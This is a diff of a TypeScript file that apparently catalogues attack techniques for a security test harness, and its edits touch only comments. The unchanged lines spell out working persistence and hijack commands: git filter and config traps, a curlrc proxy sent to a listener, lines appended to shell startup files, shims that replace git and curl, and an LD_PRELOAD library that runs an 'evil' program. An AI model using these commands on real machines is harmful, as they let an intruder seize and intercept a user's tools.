@@ -11,7 +11,7 @@ export interface Way {
 
 const ATTRIBUTES = `mkdir -p "$W/.git/info"; printf '* filter=e diff=e merge=e\\n' >"$W/.git/info/attributes"`;
 
-/** Pairs of a key and a value, set in every config file of the tree. */
+/** Returns a trap that sets pairs of a key and a value in every config file of the tree. */
 function configured(name: string, pairs: Readonly<Record<string, string>>, more = ":"): Way {
   const lines = Object.entries(pairs).map(([key, value]) => `git config -f "$f" --add "${key}" "${value}"`);
   return { name: `config: ${name}`, set: `for f in $CONFIGS; do ${lines.join("; ")}; done; ${more}` };
@@ -96,7 +96,7 @@ const FILES: readonly Way[] = [
   { name: "~/.curlrc", set: `echo "proxy = $L" >~/.curlrc` },
 ];
 
-/** Files that shells, and what runs in them, read at their start. */
+/** Appends a line to the files that shells, and programs in them, read at their start. */
 const PROFILE = (line: string) =>
   `for f in .bashrc .bash_profile .profile .bash_login .bash_env .zshenv .pam_environment; do echo '${line}' >>~/$f; done`;
 const SHIMS = `mkdir -p ~/bin ~/.local/bin; for p in git curl perl sed grep env flock; do cp $E ~/bin/$p; cp $E ~/.local/bin/$p; done`;
@@ -124,7 +124,7 @@ const STARTUP: readonly Way[] = [
   },
 ];
 
-/** A library that runs the thief's program in each program that starts; it takes a compiler. */
+/** A library that runs the thief's program in each program that starts; its build needs a compiler. */
 const PRELOADED: Way = {
   name: "LD_PRELOAD",
   set: `printf '%s\\n' '#include <stdlib.h>' '__attribute__((constructor)) static void f(void) { unsetenv("LD_PRELOAD"); system("$HOME/evil"); }' | cc -shared -fPIC -x c -o ~/evil.so -; ${PROFILE('export LD_PRELOAD="$HOME/evil.so"')}`,
